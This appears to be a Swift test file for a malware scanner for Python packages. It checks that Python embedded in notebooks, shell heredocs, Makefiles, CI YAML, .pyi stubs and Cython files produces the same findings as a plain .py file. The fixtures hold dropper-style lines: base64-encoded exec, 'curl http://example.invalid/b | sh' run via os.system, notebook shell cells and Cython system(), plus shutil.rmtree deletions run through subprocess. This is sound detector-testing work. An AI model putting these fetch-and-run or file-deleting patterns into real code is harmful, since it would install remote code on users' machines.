import Behaviors
import Foundation
import Judgement
import Limits
import Reporting
import Rules
import Scanning
import Testing

/// Python inside of other files is seen as in a file of its own.
struct EmbeddedTests {
  private let scanner: Scanning.Scanner

  init() throws {
    scanner = Scanning.Scanner(
      ruleSet: try RuleSet.embedded(), catalogue: try Catalogue.embedded(), weights: try Weights.embedded(),
      limits: Limits())
  }

  /// Does what droppers do, at a host that cannot exist.
  private static let program = """
    import base64, os
    exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EgfCBzaCcp"))
    os.system("curl http://example.invalid/b | sh")

    """

  private func findings(_ path: String, _ text: String) -> [Finding] {
    let report = scanner.scan(
      Fixture.folder(
        "demo-1.0",
        ["setup.py": "from setuptools import setup\nsetup(name='demo', packages=[])\n", "docs/\(path)": text]))
    return report.findings.filter { $0.location.path == "docs/\(path)" }
  }

  private func notebook(_ program: String) throws -> String {
    let cells = program.split(separator: "\n", maxSplits: 1).map {
      ["cell_type": "code", "source": String($0)] as [String: Any]
    }
    let data = try JSONSerialization.data(withJSONObject: ["cells": cells, "nbformat": 4], options: .prettyPrinted)
    return String(decoding: data, as: UTF8.self)
  }

  @Test func findingsAreThoseOfAFile() throws {
    let expected = findings("a.py", Self.program)
    #expect(expected.count >= 2)
    let containers = [
      "a.ipynb": try notebook(Self.program),
      "a.sh": "echo\npython - <<'EOF'\n\(Self.program)EOF\n",
      "b.sh": "python3 -c '\(Self.program)'\n",
      "Makefile": "define P\n\(Self.program)endef\nexport P\nall:\n\tpython -c \"$$P\"\n",
      "ci.yml": "a:\n  run: |\n"
        + "python - <<E\n\(Self.program)E\n".split(separator: "\n").map { "    \($0)\n" }.joined(),
    ]
    for (path, text) in containers {
      let found = findings(path, text)
      #expect(found.map(\.rule).sorted() == expected.map(\.rule).sorted(), "\(path)")
      #expect(found.map(\.runsAt) == expected.map(\.runsAt), "\(path)")
      let bytes = Array(text.utf8)
      for finding in found where finding.location.layer == nil {
        let range = try #require(finding.location.range)
        let place = String(decoding: bytes[Int(range.start)..<Int(range.end)], as: UTF8.self)
        #expect(
          place.contains("exec(") || place.contains("b64decode(") || place.contains("os.system(")
            || place.contains("aW1wb3J0"), "\(path): \(place)")
      }
    }
  }

  @Test func shellLinesOfNotebooksAreCommands() throws {
    let code = findings(
      "a.py", "import base64, os\nexec(base64.b64decode('eCA9IDE='))\nos.system('curl http://example.invalid/b | sh')\n"
    )
    let cells = findings(
      "a.ipynb",
      try notebook("import base64\nexec(base64.b64decode('eCA9IDE='))\n!curl http://example.invalid/b | sh\n"))
    #expect(cells.map(\.rule).sorted() == code.map(\.rule).sorted())
    let report = scanner.scan(
      Fixture.folder("x", ["a.ipynb": try notebook("import os\n!curl http://example.invalid/b | sh\n")]))
    #expect(
      report.observations.contains { $0.behavior == .runsDownloadCommand && $0.subject == "IPython.get_ipython.system" }
    )
  }

  @Test func programsOfProcessesAreLayers() {
    let report = scanner.scan(
      Fixture.folder(
        "demo-1.0",
        [
          "demo/__init__.py": """
          import os, subprocess, sys
          subprocess.run([sys.executable, "-c", "import shutil; shutil.rmtree('a')"])
          os.system("python3 -c \\"import shutil; shutil.rmtree('b')\\"")
          subprocess.run(["python", "-c", "import shutil; shutil.rmtree('c')"])
          """
        ]))
    let layers = Set(report.layers.map { String(decoding: $0.bytes, as: UTF8.self) })
    #expect(layers.isSuperset(of: ["a", "b", "c"].map { "import shutil; shutil.rmtree('\($0)')" }))
    #expect(
      report.observations.filter { $0.behavior == .deletesFile && $0.location.layer != nil }.map(\.runsAt) == [
        .import, .import, .import,
      ])
  }

  @Test func stubsRunWhenCalledAtTheEarliest() throws {
    let report = scanner.scan(
      Fixture.folder("demo-1.0", ["demo/__init__.py": "", "demo/a.pyi": Self.program, "demo/fast.pyx": Self.program]))
    let stub = report.observations.filter { $0.location.path == "demo/a.pyi" }
    try #require(!stub.isEmpty)
    #expect(stub.allSatisfy { $0.runsAt == .call })
    let cython = report.observations.filter { $0.location.path == "demo/fast.pyx" }
    #expect(cython.contains { $0.runsAt == .import })
  }

  @Test func cythonIsJudgedLikePython() throws {
    let command = "curl http://example.invalid/b | sh"
    let program = """
      from libc.stdlib cimport system
      cdef extern from "Python.h":
          int PyRun_SimpleString(const char *text)
      cdef int start(int count, char *name) except -1:
          cdef int i, result = system(b"\(command)")
          for i from 0 <= i < count:
              PyRun_SimpleString(<char *>name)
          return result
      start(1, b"x")
      """
    let report = scanner.scan(Fixture.folder("demo-1.0", ["demo/__init__.py": "", "demo/fast.pyx": program]))
    let found = report.observations.filter { $0.location.path == "demo/fast.pyx" }
    #expect(found.contains { $0.behavior == .runsShell && $0.runsAt == .import })
    #expect(found.contains { $0.behavior == .executesCode && $0.runsAt == .import })
    let python = scanner.scan(
      Fixture.folder("demo-1.0", ["demo/__init__.py": "import os\nos.system(b\"\(command)\")\n"]))
    #expect(Set(python.findings.map(\.rule)).isSubset(of: Set(report.findings.map(\.rule))))
    #expect(!python.findings.isEmpty)
  }

  @Test func reportsPointIntoTheFile() throws {
    let text = try notebook(Self.program)
    let artifact = Fixture.folder("x", ["a.ipynb": text])
    var output: [UInt8] = []
    let report = scanner.scan(artifact)
    try #require(!report.findings.isEmpty)
    for format in ["json", "sarif", "text"] {
      var writer = try #require(ReportFormats[format]).makeWriter(ReportContext())
      output = []
      writer.begin(.one, to: &output)
      writer.write(report, to: &output)
      writer.end(to: &output)
      let written = String(decoding: output, as: UTF8.self)
      #expect(written.contains("cell 2"), "\(format)")
      if format == "text" { #expect(written.contains("| exec(base64.b64decode(\"")) }
    }
  }
}
